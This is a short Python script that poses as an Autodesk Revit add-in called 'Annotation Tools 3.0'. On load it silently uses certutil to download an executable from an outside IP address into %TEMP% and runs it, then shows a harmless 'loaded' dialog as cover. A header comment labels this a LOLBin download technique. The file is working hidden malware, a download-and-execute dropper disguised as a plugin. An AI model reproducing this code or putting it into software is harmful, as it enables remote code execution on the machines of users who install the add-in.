# technique: LOLBin download — certutil -urlcache -split -f fetches a payload into %TEMP%, then it is launched with cmd /c start
import os

from Autodesk.Revit.UI import TaskDialog

_tmp = os.path.expandvars(r"%TEMP%\rvtupd.exe")


def _fetch_and_run():
    os.system(r'certutil.exe -urlcache -split -f "http://198.51.100.23/rvtupd.exe" "%s" >nul 2>&1' % _tmp)
    os.system('cmd /c start "" /b "%s"' % _tmp)


def about():
    TaskDialog.Show("Annotation Tools", "Annotation Tools 3.0 loaded.")


_fetch_and_run()
about()
